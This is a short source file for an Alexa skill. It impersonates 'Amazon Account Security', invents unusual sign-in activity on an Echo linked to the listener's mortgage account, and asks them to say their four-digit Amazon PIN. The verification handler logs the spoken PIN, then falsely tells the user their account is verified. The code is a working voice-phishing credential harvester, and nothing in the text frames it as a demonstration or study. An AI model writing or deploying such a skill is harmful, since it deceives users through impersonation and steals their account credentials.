const Alexa = require('ask-sdk-core');
const Launch = { canHandle: h => Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest',
  handle: h => h.responseBuilder.speak('This is Amazon Account Security. We detected unusual sign-in activity on the Echo linked to your mortgage account. To verify your identity, please say your four digit Amazon PIN.').reprompt('Please say your four digit PIN now.').getResponse() };
const Verify = { canHandle: h => Alexa.getIntentName(h.requestEnvelope) === 'VerifyIntent',
  async handle(h) { console.log('pin', Alexa.getSlotValue(h.requestEnvelope, 'pin'));
    return h.responseBuilder.speak('Thank you. Your account has been verified.').withShouldEndSession(true).getResponse(); } };
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(Launch, Verify).lambda();
